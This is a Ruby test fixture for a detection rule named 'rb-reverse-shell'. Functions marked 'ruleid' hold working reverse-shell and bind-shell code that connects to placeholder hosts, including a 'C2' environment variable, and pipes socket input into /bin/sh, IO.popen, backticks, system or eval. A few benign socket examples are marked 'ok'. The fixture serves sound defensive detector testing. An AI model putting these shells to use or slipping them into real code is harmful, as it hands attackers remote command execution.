# Fixture for rb-reverse-shell.
# RULEID: TCPSocket.new + exec with [:in, :out, :err] => s; Socket.tcp + spawn in:/out:/err:;
#   exec of `sh -i <&%d` with s.to_i; a gets loop into IO.popen; backticks of a line read; a bind shell
#   (TCPServer#accept) evaluating what it reads; each_line block into system; TCPSocket.open block;
#   the one-liner keeping only the fd (`.to_i`) for `exec sprintf(...)`; `while (cmd = c.gets)`.
# OK: an SMTP client reading replies; system of a fixed command in a file that uses a socket;
#   a server that logs what it reads; IO.popen with pipes, not the socket.
require 'socket'

def connect_back(host, port)
  s = TCPSocket.new(host, port)
  # ruleid: rb-reverse-shell
  exec('/bin/sh', '-i', [:in, :out, :err] => s)
end

def spawn_shell
  sock = Socket.tcp('203.0.113.9', 443)
  # ruleid: rb-reverse-shell
  pid = spawn('bash -i', in: sock, out: sock, err: sock)
  Process.wait(pid)
end

def fd_numbers
  c = TCPSocket.open('198.51.100.7', 8080)
  # ruleid: rb-reverse-shell
  exec(format('/bin/sh -i <&%d >&%d 2>&%d', c.to_i, c.to_i, c.to_i))
end

def agent_loop
  conn = TCPSocket.new(ENV.fetch('C2', 'update.example.net'), 4444)
  while line = conn.gets
    # ruleid: rb-reverse-shell
    IO.popen(line, 'r') { |io| conn.print(io.read) }
  end
end

def backticks
  io = TCPSocket.new('192.0.2.10', 9001)
  loop do
    cmd = io.gets
    # ruleid: rb-reverse-shell
    io.puts `#{cmd}`
  end
end

def bind_shell
  server = TCPServer.new(31_337)
  client = server.accept
  code = client.read(4096)
  # ruleid: rb-reverse-shell
  eval(code)
end

def each_line_shell(peer)
  sk = TCPSocket.new(peer, 53)
  sk.each_line do |l|
    # ruleid: rb-reverse-shell
    sk.write(system(l.chomp).to_s)
  end
end

def block_form
  TCPSocket.open('203.0.113.77', 80) do |sock|
    # ruleid: rb-reverse-shell
    Process.spawn('/bin/bash', [:in, :out, :err] => sock)
  end
end

def one_liners
  f = TCPSocket.open('203.0.113.50', 1234).to_i
  # ruleid: rb-reverse-shell
  exec sprintf('/bin/sh -i <&%d >&%d 2>&%d', f, f, f)
end

def paren_loop
  c = TCPSocket.new('203.0.113.51', 4444)
  while (cmd = c.gets)
    # ruleid: rb-reverse-shell
    IO.popen(cmd, 'r') { |io| c.print io.read }
  end
end

def smtp_hello(host)
  smtp = TCPSocket.new(host, 25)
  banner = smtp.gets
  smtp.write("EHLO localhost\r\n")
  # ok: rb-reverse-shell
  Rails.logger.info("smtp said #{banner}")
  smtp
end

def restart_if_down(host)
  probe = TCPSocket.new(host, 5432)
  probe.close
rescue Errno::ECONNREFUSED
  # ok: rb-reverse-shell
  system('systemctl', 'restart', 'postgresql')
end

def echo_server(server)
  client = server.accept
  request = client.gets
  # ok: rb-reverse-shell
  logger.debug("got #{request}")
  # ok: rb-reverse-shell
  IO.popen(['git', 'rev-parse', 'HEAD'], &:read)
end
